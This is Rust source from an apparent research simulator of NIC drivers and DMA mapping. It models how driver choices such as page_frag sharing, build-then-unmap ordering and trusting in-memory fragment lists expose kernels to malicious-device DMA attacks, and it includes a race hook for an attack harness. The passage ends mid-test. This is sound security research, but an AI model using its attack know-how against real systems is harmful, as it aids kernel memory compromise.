    #[test]
    fn forwarding_transmits_non_local() {
        let cfg = StackConfig {
            forwarding: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(cfg);
        let p = Packet::udp(9, 42, b"fwd".to_vec());
        let s = rx_skb(&mut ctx, &mut mem, &p);
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
            .unwrap();
        assert_eq!(stack.stats.forwarded, 1);
        assert_eq!(drv.stats.tx_packets, 1);
        assert_eq!(drv.tx_in_flight(), 1);
    }

    #[test]
    fn forwarded_tcp_stream_goes_out_with_frags() {
        // Figure 9 end-to-end (benign traffic): GRO merges, the forwarded
        // TX skb carries struct-page pointers in its shared info, and the
        // TX path maps those pages for device READ.
        let cfg = StackConfig {
            forwarding: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(cfg);
        for i in 0..3u32 {
            let p = Packet::tcp(9, 42, i * 100, vec![i as u8; 100]);
            let s = rx_skb(&mut ctx, &mut mem, &p);
            stack
                .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
                .unwrap();
        }
        stack
            .flush(&mut ctx, &mut mem, &mut iommu, &mut drv)
            .unwrap();
        assert_eq!(stack.stats.forwarded, 1);
        let descs = drv.tx_descriptors();
        assert_eq!(descs.len(), 1);
        assert_eq!(
            descs[0].frags.len(),
            2,
            "two merged segments → two frag mappings"
        );
    }

    #[test]
    fn echo_service_reflects_payload_zero_copy() {
        let cfg = StackConfig {
            echo_service: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(cfg);
        let p = Packet::udp(9, 1, vec![0x5a; 200]);
        let s = rx_skb(&mut ctx, &mut mem, &p);
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
            .unwrap();
        assert_eq!(stack.stats.echoed, 1);
        let descs = drv.tx_descriptors();
        assert_eq!(descs.len(), 1);
        assert_eq!(descs[0].frags.len(), 1);
        // Device reads the frag: it must see the original payload bytes.
        let (frag_iova, frag_len) = descs[0].frags[0];
        let mut buf = vec![0u8; frag_len];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, frag_iova, &mut buf)
            .unwrap();
        assert_eq!(buf, vec![0x5a; 200]);
    }

    #[test]
    fn malformed_packets_are_dropped_without_panic() {
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(StackConfig::default());
        // An skb whose bytes do not parse as a packet: GRO passes it
        // through as an unparseable datagram; the stack drops it (dst 0).
        let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
        skb.put(&mut ctx, &mut mem, &[0xff; 10]).unwrap();
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, skb)
            .unwrap();
        assert_eq!(stack.stats.dropped + stack.stats.delivered, 1);
    }

    #[test]
    fn sockets_are_reused_per_flow() {
        let (mut ctx, mut mem, _iommu, _drv, mut stack) = setup(StackConfig::default());
        let a = stack.socket_for(&mut ctx, &mut mem, (1, 2, 17)).unwrap();
        let b = stack.socket_for(&mut ctx, &mut mem, (1, 2, 17)).unwrap();
        let c = stack.socket_for(&mut ctx, &mut mem, (1, 3, 17)).unwrap();
        assert_eq!(a, b, "same flow, same socket");
        assert_ne!(a, c, "different flow, different socket");
        assert_eq!(stack.socket_count(), 2);
    }

    #[test]
    fn tcp_to_local_is_gro_held_until_flush() {
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(StackConfig::default());
        for i in 0..3u32 {
            let p = Packet::tcp(9, 1, i * 50, vec![i as u8; 50]);
            let s = rx_skb(&mut ctx, &mut mem, &p);
            stack
                .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
                .unwrap();
        }
        assert_eq!(stack.stats.delivered, 0, "aggregate still held by GRO");
        stack
            .flush(&mut ctx, &mut mem, &mut iommu, &mut drv)
            .unwrap();
        assert_eq!(stack.stats.delivered, 1, "one merged delivery");
        assert_eq!(stack.delivered()[0].payload.len(), 150);
    }

    #[test]
    fn echo_completion_frees_rx_buffer() {
        let cfg = StackConfig {
            echo_service: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv, mut stack) = setup(cfg);
        let p = Packet::udp(9, 1, vec![1; 64]);
        let s = rx_skb(&mut ctx, &mut mem, &p);
        stack
            .rx(&mut ctx, &mut mem, &mut iommu, &mut drv, s)
            .unwrap();
        drv.device_tx_complete(0).unwrap();
        let cbs = drv.tx_reap(&mut ctx, &mut mem, &mut iommu).unwrap();
        assert!(cbs.is_empty());
        assert_eq!(drv.tx_in_flight(), 0);
    }
}
