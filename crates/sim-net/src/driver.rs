//! NIC driver models.
//!
//! The driver is the code that actually calls the DMA API, and the paper
//! shows that *how* it calls it decides which attacks work:
//!
//! - **RX allocation policy**: `page_frag` (the common case, creates
//!   type (c) page sharing), page-per-buffer (isolated; closes path iii),
//!   or kmalloc (random co-location, type (d)).
//! - **Unmap ordering**: "prevalent device drivers (e.g., Intel 40GbE
//!   driver, i40e) first create an sk_buff and only then unmap the
//!   buffer" (§5.2.2 path (i)). Both orders are modeled; `rx_poll`
//!   accepts a *race hook* that runs between the two steps so the
//!   attack harness can demonstrate exactly what a concurrently-DMAing
//!   device can do in that window.
//! - **RX buffer size**: 2 KiB (MTU-sized, kernel-5.0 mlx5 style) or
//!   64 KiB (HW-LRO, kernel-4.15 style) — the driver memory footprint
//!   that drives the RingFlood survey (§5.3).

use crate::shinfo::SHINFO_SIZE;
use crate::skb::{build_skb, kfree_skb, AllocKind, PendingCallback, SkBuff};
use dma_core::clock::{Cycles, CYCLES_PER_MS};
use dma_core::trace::DeviceId;
use dma_core::vuln::DmaDirection;
use dma_core::{DmaError, Iova, Kva, Result, SimCtx, PAGE_SIZE};
use sim_iommu::{dma_map_single, dma_unmap_single, DmaMapping, Iommu};
use sim_mem::MemorySystem;
use std::collections::VecDeque;

/// RX data-buffer allocation policy.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AllocPolicy {
    /// `napi_alloc_frag` / page_frag carving (the Linux default for
    /// MTU-sized buffers). Creates type (c) page sharing.
    PageFrag,
    /// One full page (or compound page) per buffer; no sharing.
    PagePerBuffer,
    /// `kmalloc`-backed buffers; shares slab pages with unrelated kernel
    /// objects (type (d)).
    Kmalloc,
}

/// Order of sk_buff construction vs DMA unmap on the RX completion path
/// (Figure 7 paths (i) and (ii)).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum UnmapOrder {
    /// Correct order: revoke device access, then initialize metadata.
    UnmapThenBuild,
    /// i40e-style: build (initializing `skb_shared_info`) while the
    /// device still holds a live mapping.
    BuildThenUnmap,
}

/// Static driver configuration.
#[derive(Clone, Copy, Debug)]
pub struct DriverConfig {
    /// Human-readable name ("mlx5_core", "i40e", ...).
    pub name: &'static str,
    /// The device this driver serves.
    pub dev: DeviceId,
    /// RX descriptor ring size.
    pub rx_ring_size: usize,
    /// RX buffer size in bytes (2048 default; 65536 with HW LRO).
    pub rx_buf_size: usize,
    /// RX allocation policy.
    pub alloc: AllocPolicy,
    /// RX completion ordering.
    pub unmap_order: UnmapOrder,
    /// Whether the driver DMA-maps a kmalloc'd control block
    /// bidirectionally (admin/event queues do this in real drivers; it
    /// is the random-co-location leak D-KASAN flags).
    pub map_ctrl_block: bool,
    /// XDP enabled: RX buffers are mapped BIDIRECTIONAL instead of
    /// device-write-only (§5.1: "in some cases, such as XDP, with
    /// BIDIRECTIONAL"), widening what a malicious device can *read*.
    pub xdp: bool,
    /// Number of RX queues. Linux runs one RX ring per CPU, each served
    /// by its own per-CPU page_frag region (§5.2.2, Figure 5); the
    /// driver's total footprint — and hence RingFlood's success odds —
    /// scales with this (§5.3: "a higher chance of success on larger
    /// machines").
    pub num_queues: usize,
    /// TX completion timeout before the driver resets (§5.4: "usually a
    /// few seconds, which is sufficient to complete the attack").
    pub tx_timeout: Cycles,
    /// TX descriptor ring size; `transmit` rejects with `RingFull` when
    /// this many skbs are outstanding (posted but not yet reaped).
    pub tx_ring_size: usize,
}

impl Default for DriverConfig {
    fn default() -> Self {
        DriverConfig {
            name: "simnic",
            dev: 1,
            rx_ring_size: 64,
            rx_buf_size: 2048,
            alloc: AllocPolicy::PageFrag,
            unmap_order: UnmapOrder::UnmapThenBuild,
            map_ctrl_block: false,
            xdp: false,
            num_queues: 1,
            tx_timeout: 5_000 * CYCLES_PER_MS,
            tx_ring_size: 64,
        }
    }
}

/// Retries `rx_refill` performs on a transient failure before giving up
/// and running with a partially-filled ring.
const RX_REFILL_MAX_RETRIES: u32 = 3;

/// Backoff between RX refill retries (real drivers reschedule NAPI or a
/// refill worker; here the simulated clock advances instead).
const RX_REFILL_BACKOFF: Cycles = CYCLES_PER_MS / 4;

/// Counters, modeled on the `rx_alloc_failed` / `tx_dropped` families
/// real NIC drivers export through ethtool.
#[derive(Clone, Copy, Debug, Default)]
pub struct DriverStats {
    /// Packets delivered up the stack.
    pub rx_packets: u64,
    /// Packets handed to the device for transmit.
    pub tx_packets: u64,
    /// TX watchdog resets.
    pub resets: u64,
    /// RX buffer allocations that failed transiently during refill.
    pub rx_alloc_failed: u64,
    /// RX buffers allocated but dropped because the DMA map failed.
    pub rx_map_failed: u64,
    /// Backoff-and-retry rounds taken by `rx_refill`.
    pub rx_refill_retries: u64,
    /// Transmits rejected because the TX ring was full.
    pub tx_ring_full: u64,
    /// skbs dropped on the TX path because a DMA map failed.
    pub tx_dropped: u64,
}

/// A posted RX buffer awaiting device DMA.
#[derive(Clone, Copy, Debug)]
pub struct RxSlot {
    /// The live mapping (WRITE for the device).
    pub mapping: DmaMapping,
    /// Usable bytes before the shared info.
    pub buf_size: usize,
    /// Bytes the device reported writing (set on completion).
    pub written: usize,
    /// How the buffer was allocated (for freeing).
    pub alloc: AllocKind,
}

/// A TX descriptor visible to the device.
#[derive(Clone, Debug)]
pub struct TxDesc {
    /// Slot index (used to signal completion).
    pub idx: usize,
    /// IOVA of the linear part (READ for the device).
    pub iova: Iova,
    /// Length of the linear part.
    pub len: usize,
    /// IOVAs and lengths of the fragment mappings.
    pub frags: Vec<(Iova, usize)>,
}

#[derive(Clone, Debug)]
struct TxSlot {
    skb: SkBuff,
    linear: DmaMapping,
    frag_maps: Vec<DmaMapping>,
    posted_at: Cycles,
    completed: bool,
    reaped: bool,
}

/// A simulated NIC driver instance.
#[derive(Clone, Debug)]
pub struct NicDriver {
    /// Configuration.
    pub cfg: DriverConfig,
    /// Counters.
    pub stats: DriverStats,
    posted: VecDeque<RxSlot>,
    completed: VecDeque<RxSlot>,
    tx: Vec<TxSlot>,
    /// The kmalloc'd, bidirectionally mapped control block, if enabled.
    pub ctrl_block: Option<(Kva, DmaMapping)>,
}

impl NicDriver {
    /// Probes the driver: attaches the device to the IOMMU, maps the
    /// control block if configured, and fills the RX ring.
    pub fn probe(
        cfg: DriverConfig,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<Self> {
        iommu.attach_device(cfg.dev);
        let mut d = NicDriver {
            cfg,
            stats: DriverStats::default(),
            posted: VecDeque::new(),
            completed: VecDeque::new(),
            tx: Vec::new(),
            ctrl_block: None,
        };
        if cfg.map_ctrl_block {
            let kva = mem.kzalloc(ctx, 512, "nic_alloc_cmd_queue")?;
            let m = dma_map_single(
                ctx,
                iommu,
                &mem.layout,
                cfg.dev,
                kva,
                512,
                DmaDirection::Bidirectional,
                "nic_map_cmd_queue",
            )?;
            d.ctrl_block = Some((kva, m));
        }
        d.rx_refill(ctx, mem, iommu)?;
        Ok(d)
    }

    /// Usable payload capacity of an RX buffer (before the shared info).
    pub fn rx_payload_capacity(&self) -> usize {
        self.cfg.rx_buf_size - SHINFO_SIZE
    }

    /// Refills the RX ring to capacity, allocating and DMA-mapping fresh
    /// buffers per the configured policy.
    ///
    /// Transient failures (allocator pressure, IOVA exhaustion, injected
    /// faults) are absorbed: the refill backs off and retries up to
    /// [`RX_REFILL_MAX_RETRIES`] times, then returns `Ok` with a
    /// partially-filled ring — exactly how real drivers degrade when
    /// `napi_alloc_frag` fails under memory pressure. The shortfall is
    /// visible in `stats.rx_alloc_failed` / `stats.rx_map_failed`, and
    /// the next poll's refill tries again. Non-transient errors (layout
    /// or invariant violations) still propagate.
    pub fn rx_refill(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<()> {
        let span = ctx.span_begin("rx.refill");
        let res = self.rx_refill_inner(ctx, mem, iommu);
        ctx.span_end(span);
        res
    }

    fn rx_refill_inner(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<()> {
        let queues = self.cfg.num_queues.max(1);
        let target = self.cfg.rx_ring_size * queues;
        let mut retries_left = RX_REFILL_MAX_RETRIES;
        while self.posted.len() + self.completed.len() < target {
            // Round-robin the refills across the per-CPU rings: each
            // queue draws from its own CPU's page_frag region.
            let slot_index = self.posted.len() + self.completed.len();
            mem.set_cpu(slot_index % queues);
            match self.try_post_rx_buffer(ctx, mem, iommu) {
                Ok(()) => {}
                Err(e) if e.is_transient() => {
                    if retries_left == 0 {
                        // Degrade: run with a short ring rather than fail
                        // the poll path.
                        break;
                    }
                    retries_left -= 1;
                    self.stats.rx_refill_retries += 1;
                    ctx.metrics.incr("sim_net.rx.refill_retries");
                    ctx.clock.advance(RX_REFILL_BACKOFF);
                }
                Err(e) => return Err(e),
            }
        }
        Ok(())
    }

    /// Allocates, maps, and posts one RX buffer. On a map failure the
    /// just-allocated buffer is freed again so nothing leaks.
    fn try_post_rx_buffer(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<()> {
        if ctx.fault("sim_net.rx_refill") {
            self.stats.rx_alloc_failed += 1;
            ctx.metrics.incr("sim_net.rx.alloc_failed");
            return Err(DmaError::OutOfMemory);
        }
        let (kva, alloc) = match self.alloc_rx_buffer(ctx, mem) {
            Ok(pair) => pair,
            Err(e) => {
                if e.is_transient() {
                    self.stats.rx_alloc_failed += 1;
                    ctx.metrics.incr("sim_net.rx.alloc_failed");
                }
                return Err(e);
            }
        };
        let dir = if self.cfg.xdp {
            DmaDirection::Bidirectional
        } else {
            DmaDirection::FromDevice
        };
        let mapping = match dma_map_single(
            ctx,
            iommu,
            &mem.layout,
            self.cfg.dev,
            kva,
            self.cfg.rx_buf_size,
            dir,
            "nic_rx_map",
        ) {
            Ok(m) => m,
            Err(e) => {
                if e.is_transient() {
                    self.stats.rx_map_failed += 1;
                    ctx.metrics.incr("sim_net.rx.map_failed");
                }
                Self::free_rx_buffer(ctx, mem, kva, alloc)?;
                return Err(e);
            }
        };
        self.posted.push_back(RxSlot {
            mapping,
            buf_size: self.cfg.rx_buf_size - SHINFO_SIZE,
            written: 0,
            alloc,
        });
        ctx.metrics.gauge_set(
            "sim_net.rx_ring.occupancy",
            (self.posted.len() + self.completed.len()) as u64,
        );
        Ok(())
    }

    fn alloc_rx_buffer(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
    ) -> Result<(Kva, AllocKind)> {
        Ok(match self.cfg.alloc {
            AllocPolicy::PageFrag => (
                mem.page_frag_alloc(ctx, self.cfg.rx_buf_size, "netdev_alloc_frag")?,
                AllocKind::PageFrag,
            ),
            AllocPolicy::PagePerBuffer => {
                let pages = self.cfg.rx_buf_size.div_ceil(PAGE_SIZE);
                let order = pages.next_power_of_two().trailing_zeros();
                let pfn = mem.alloc_pages(ctx, order, "nic_alloc_rx_page")?;
                (mem.layout.pfn_to_kva(pfn)?, AllocKind::Pages { order })
            }
            AllocPolicy::Kmalloc => (
                mem.kmalloc(ctx, self.cfg.rx_buf_size, "nic_alloc_rx_kmalloc")?,
                AllocKind::Kmalloc,
            ),
        })
    }

    /// Returns an RX buffer to the allocator it came from.
    fn free_rx_buffer(
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        kva: Kva,
        alloc: AllocKind,
    ) -> Result<()> {
        match alloc {
            AllocKind::PageFrag => mem.page_frag_free(ctx, kva),
            AllocKind::Pages { order } => {
                let pfn = mem.layout.kva_to_pfn(kva)?;
                mem.free_pages(ctx, pfn, order)
            }
            AllocKind::Kmalloc => mem.kfree(ctx, kva),
        }
    }

    // ------------------------------------------------------------------
    // Device-facing interface (what the NIC hardware sees).
    // ------------------------------------------------------------------

    /// The posted RX descriptors: (IOVA, capacity). This is what the
    /// device reads from the descriptor ring.
    pub fn rx_descriptors(&self) -> Vec<(Iova, usize)> {
        self.posted
            .iter()
            .map(|s| (s.mapping.iova, s.buf_size))
            .collect()
    }

    /// Read-only view of the posted RX slots (diagnostics and tests).
    pub fn posted_slots(&self) -> impl Iterator<Item = &RxSlot> {
        self.posted.iter()
    }

    /// The device signals that it wrote `written` bytes into the head
    /// RX buffer.
    pub fn device_rx_complete(&mut self, written: usize) -> Result<()> {
        let mut slot = self.posted.pop_front().ok_or(DmaError::RingEmpty)?;
        slot.written = written.min(slot.buf_size);
        self.completed.push_back(slot);
        Ok(())
    }

    /// The posted TX descriptors awaiting device read + completion.
    pub fn tx_descriptors(&self) -> Vec<TxDesc> {
        self.tx
            .iter()
            .enumerate()
            .filter(|(_, s)| !s.completed)
            .map(|(idx, s)| TxDesc {
                idx,
                iova: s.linear.iova,
                len: s.linear.len,
                frags: s.frag_maps.iter().map(|m| (m.iova, m.len)).collect(),
            })
            .collect()
    }

    /// The device signals TX completion for slot `idx`.
    pub fn device_tx_complete(&mut self, idx: usize) -> Result<()> {
        let slot = self.tx.get_mut(idx).ok_or(DmaError::RingEmpty)?;
        slot.completed = true;
        Ok(())
    }

    // ------------------------------------------------------------------
    // Kernel-facing interface.
    // ------------------------------------------------------------------

    /// Processes one completed RX buffer into an sk_buff.
    ///
    /// `race` runs between the two completion steps (build / unmap, in
    /// the configured order) and models device DMA concurrent with the
    /// CPU — the window of Figure 7 path (i).
    pub fn rx_poll<F>(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        mut race: F,
    ) -> Result<Option<SkBuff>>
    where
        F: FnMut(&mut SimCtx, &mut MemorySystem, &mut Iommu, &RxSlot),
    {
        let span = ctx.span_begin("rx.poll");
        let res = self.rx_poll_inner(ctx, mem, iommu, &mut race);
        ctx.span_end(span);
        res
    }

    fn rx_poll_inner<F>(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        race: &mut F,
    ) -> Result<Option<SkBuff>>
    where
        F: FnMut(&mut SimCtx, &mut MemorySystem, &mut Iommu, &RxSlot),
    {
        let Some(slot) = self.completed.pop_front() else {
            return Ok(None);
        };
        // The min watermark of this gauge shows how close the ring came
        // to starvation before the refill below restocked it.
        ctx.metrics.gauge_set(
            "sim_net.rx_ring.occupancy",
            (self.posted.len() + self.completed.len()) as u64,
        );
        let skb = match self.cfg.unmap_order {
            UnmapOrder::BuildThenUnmap => {
                // i40e-style: metadata initialized while the device still
                // has WRITE access — it can undo the CPU's changes.
                let mut skb = build_skb(ctx, mem, slot.mapping.kva, slot.buf_size, slot.alloc)?;
                skb.len = slot.written;
                race(ctx, mem, iommu, &slot);
                dma_unmap_single(ctx, iommu, &slot.mapping)?;
                skb
            }
            UnmapOrder::UnmapThenBuild => {
                dma_unmap_single(ctx, iommu, &slot.mapping)?;
                let mut skb = build_skb(ctx, mem, slot.mapping.kva, slot.buf_size, slot.alloc)?;
                skb.len = slot.written;
                // The race window: the device keeps DMAing after the CPU
                // finished initializing the metadata. Whether its writes
                // land depends on the invalidation mode and page sharing
                // (Figure 7 paths (ii)/(iii)).
                race(ctx, mem, iommu, &slot);
                skb
            }
        };
        self.stats.rx_packets += 1;
        ctx.metrics.incr("sim_net.rx.packets");
        self.rx_refill(ctx, mem, iommu)?;
        Ok(Some(skb))
    }

    /// Convenience: poll with no concurrent device activity.
    pub fn rx_poll_quiet(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<Option<SkBuff>> {
        self.rx_poll(ctx, mem, iommu, |_, _, _, _| {})
    }

    /// Queues an sk_buff for transmission: maps the linear part and every
    /// fragment **as described by the shared info in memory** for device
    /// read.
    ///
    /// Trusting the in-memory `frags[]` is exactly what Linux does — and
    /// what lets a forged fragment list map arbitrary pages (§5.5).
    ///
    /// Returns `RingFull` (skb untouched by the caller's standards: it is
    /// freed here, as `ndo_start_xmit` drops on error) once
    /// `tx_ring_size` skbs are outstanding. A DMA-map failure mid-way
    /// unmaps whatever was already mapped, frees the skb, and counts
    /// `tx_dropped` — the driver stays consistent instead of leaking the
    /// partial mappings.
    pub fn transmit(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        skb: SkBuff,
    ) -> Result<usize> {
        let span = ctx.span_begin("tx.xmit");
        let res = self.transmit_inner(ctx, mem, iommu, skb);
        ctx.span_end(span);
        res
    }

    fn transmit_inner(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
        skb: SkBuff,
    ) -> Result<usize> {
        if self.tx.len() >= self.cfg.tx_ring_size {
            self.stats.tx_ring_full += 1;
            ctx.metrics.incr("sim_net.tx.ring_full");
            let _ = kfree_skb(ctx, mem, skb)?;
            return Err(DmaError::RingFull);
        }
        let linear = match dma_map_single(
            ctx,
            iommu,
            &mem.layout,
            self.cfg.dev,
            skb.payload_kva(),
            skb.len.max(1),
            DmaDirection::ToDevice,
            "nic_tx_map",
        ) {
            Ok(m) => m,
            Err(e) => {
                self.stats.tx_dropped += 1;
                ctx.metrics.incr("sim_net.tx.dropped");
                let _ = kfree_skb(ctx, mem, skb)?;
                return Err(e);
            }
        };
        let frags = skb.shinfo().frags(ctx, mem)?;
        let mut frag_maps = Vec::with_capacity(frags.len());
        for f in &frags {
            // struct page → PFN → KVA, then map for device read.
            let pfn = mem.layout.page_to_pfn(Kva(f.page))?;
            let kva = Kva(mem.layout.pfn_to_kva(pfn)?.raw() + f.offset as u64);
            let fm = match dma_map_single(
                ctx,
                iommu,
                &mem.layout,
                self.cfg.dev,
                kva,
                (f.size as usize).max(1),
                DmaDirection::ToDevice,
                "nic_tx_map_frag",
            ) {
                Ok(m) => m,
                Err(e) => {
                    // Roll back: revoke every mapping taken so far.
                    dma_unmap_single(ctx, iommu, &linear)?;
                    for m in &frag_maps {
                        dma_unmap_single(ctx, iommu, m)?;
                    }
                    self.stats.tx_dropped += 1;
                    ctx.metrics.incr("sim_net.tx.dropped");
                    let _ = kfree_skb(ctx, mem, skb)?;
                    return Err(e);
                }
            };
            frag_maps.push(fm);
        }
        self.stats.tx_packets += 1;
        ctx.metrics.incr("sim_net.tx.packets");
        self.tx.push(TxSlot {
            skb,
            linear,
            frag_maps,
            posted_at: ctx.clock.now(),
            completed: false,
            reaped: false,
        });
        ctx.metrics
            .gauge_set("sim_net.tx_ring.occupancy", self.tx.len() as u64);
        Ok(self.tx.len() - 1)
    }

    /// Reaps completed TX slots: unmaps, frees the skbs, and returns any
    /// destructor callbacks `kfree_skb` surfaced.
    pub fn tx_reap(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<Vec<PendingCallback>> {
        let mut callbacks = Vec::new();
        for slot in self.tx.iter_mut().filter(|s| s.completed && !s.reaped) {
            dma_unmap_single(ctx, iommu, &slot.linear)?;
            for m in &slot.frag_maps {
                dma_unmap_single(ctx, iommu, m)?;
            }
            slot.reaped = true;
            let skb = std::mem::replace(
                &mut slot.skb,
                SkBuff {
                    data: Kva(0),
                    buf_size: 0,
                    data_offset: 0,
                    len: 0,
                    alloc: AllocKind::Kmalloc,
                    flow: None,
                    sock: None,
                    owned_frag_buffers: Vec::new(),
                },
            );
            if let Some(cb) = kfree_skb(ctx, mem, skb)? {
                callbacks.push(cb);
            }
        }
        self.tx.retain(|s| !s.reaped);
        ctx.metrics
            .gauge_set("sim_net.tx_ring.occupancy", self.tx.len() as u64);
        Ok(callbacks)
    }

    /// TX watchdog: if any posted TX is older than the timeout, the
    /// driver resets (flushes all TX state). Returns `true` on reset.
    ///
    /// §5.4: a device delaying completions must finish its attack before
    /// this fires.
    pub fn tx_timeout_check(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<bool> {
        let now = ctx.clock.now();
        let timed_out = self
            .tx
            .iter()
            .any(|s| !s.completed && now.saturating_sub(s.posted_at) > self.cfg.tx_timeout);
        if !timed_out {
            return Ok(false);
        }
        // Reset: complete and reap everything.
        for s in self.tx.iter_mut() {
            s.completed = true;
        }
        let _ = self.tx_reap(ctx, mem, iommu)?;
        self.stats.resets += 1;
        ctx.metrics.incr("sim_net.tx.watchdog_resets");
        Ok(true)
    }

    /// Tears the driver down: reaps all TX (completing outstanding slots
    /// first), unmaps and frees every RX buffer — posted and completed —
    /// and releases the control block.
    ///
    /// After `shutdown` returns `Ok`, the device holds **zero** DMA
    /// mappings from this driver; the chaos harness asserts
    /// `iommu.mapped_pages(dev) == 0` as its leak audit, so any path
    /// that loses track of a mapping under fault injection fails here.
    pub fn shutdown(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        iommu: &mut Iommu,
    ) -> Result<Vec<PendingCallback>> {
        for s in self.tx.iter_mut() {
            s.completed = true;
        }
        let callbacks = self.tx_reap(ctx, mem, iommu)?;
        while let Some(slot) = self
            .posted
            .pop_front()
            .or_else(|| self.completed.pop_front())
        {
            dma_unmap_single(ctx, iommu, &slot.mapping)?;
            Self::free_rx_buffer(ctx, mem, slot.mapping.kva, slot.alloc)?;
        }
        if let Some((kva, m)) = self.ctrl_block.take() {
            dma_unmap_single(ctx, iommu, &m)?;
            mem.kfree(ctx, kva)?;
        }
        Ok(callbacks)
    }

    /// Number of in-flight (not completed) TX slots.
    pub fn tx_in_flight(&self) -> usize {
        self.tx.iter().filter(|s| !s.completed).count()
    }

    /// Number of completed-but-unpolled RX buffers.
    pub fn rx_pending(&self) -> usize {
        self.completed.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_iommu::{InvalidationMode, IommuConfig};
    use sim_mem::MemConfig;

    fn setup(cfg: DriverConfig) -> (SimCtx, MemorySystem, Iommu, NicDriver) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        let drv = NicDriver::probe(cfg, &mut ctx, &mut mem, &mut iommu).unwrap();
        (ctx, mem, iommu, drv)
    }

    #[test]
    fn probe_fills_the_rx_ring() {
        let (_, _, mut iommu, drv) = setup(DriverConfig::default());
        assert_eq!(drv.rx_descriptors().len(), 64);
        // Each 2 KiB buffer maps one page; page_frag pairs share pages, so
        // there are half as many distinct pages but 64 live mappings.
        assert!(iommu.mapped_pages(1) >= 32);
        let _ = &mut iommu;
    }

    #[test]
    fn rx_path_delivers_device_bytes() {
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(DriverConfig::default());
        let (iova, _) = drv.rx_descriptors()[0];
        let wire = crate::packet::Packet::tcp(7, 8, 0, b"payload!".to_vec()).to_wire();
        // Device writes at the payload offset (headroom NET_SKB_PAD).
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, Iova(iova.raw() + 64), &wire)
            .unwrap();
        drv.device_rx_complete(wire.len()).unwrap();
        let skb = drv
            .rx_poll_quiet(&mut ctx, &mut mem, &mut iommu)
            .unwrap()
            .unwrap();
        assert_eq!(skb.len, wire.len());
        assert_eq!(skb.payload(&mut ctx, &mem).unwrap(), wire);
        assert_eq!(drv.stats.rx_packets, 1);
        // Ring was refilled.
        assert_eq!(drv.rx_descriptors().len(), 64);
    }

    #[test]
    fn consecutive_rx_buffers_share_pages_with_page_frag() {
        // Type (c): the attack-relevant property of the default policy —
        // "pairs of successive RX descriptors map the same page" (§5.2.2).
        let (_, mem, iommu, drv) = setup(DriverConfig::default());
        let kvas: Vec<Kva> = drv.posted_slots().map(|s| s.mapping.kva).collect();
        let sharing_pairs = kvas
            .windows(2)
            .filter(|w| w[0].page_align_down() == w[1].page_align_down())
            .count();
        assert!(
            sharing_pairs >= 24,
            "expected ~half the pairs to share, got {sharing_pairs}"
        );
        // And each shared page is reachable through BOTH buffers' IOVAs.
        let shared_kva = kvas
            .windows(2)
            .find(|w| w[0].page_align_down() == w[1].page_align_down())
            .unwrap()[0];
        let pfn = mem.layout.kva_to_pfn(shared_kva).unwrap();
        assert_eq!(iommu.iovas_of(1, pfn).len(), 2);
    }

    #[test]
    fn page_per_buffer_policy_isolates_pages() {
        let cfg = DriverConfig {
            alloc: AllocPolicy::PagePerBuffer,
            rx_ring_size: 8,
            ..Default::default()
        };
        let (_, mem, iommu, drv) = setup(cfg);
        for (iova, _) in drv.rx_descriptors() {
            let _ = iova;
        }
        // Every buffer has its own page: mapped pages == ring size.
        assert_eq!(iommu.mapped_pages(1), 8);
        let _ = mem;
    }

    #[test]
    fn build_then_unmap_runs_race_while_mapped() {
        let cfg = DriverConfig {
            unmap_order: UnmapOrder::BuildThenUnmap,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(cfg);
        iommu
            .dev_write(
                &mut ctx,
                &mut mem.phys,
                1,
                drv.rx_descriptors()[0].0,
                b"pkt",
            )
            .unwrap();
        drv.device_rx_complete(3).unwrap();
        let mut raced_while_mapped = false;
        drv.rx_poll(&mut ctx, &mut mem, &mut iommu, |ctx, mem, iommu, slot| {
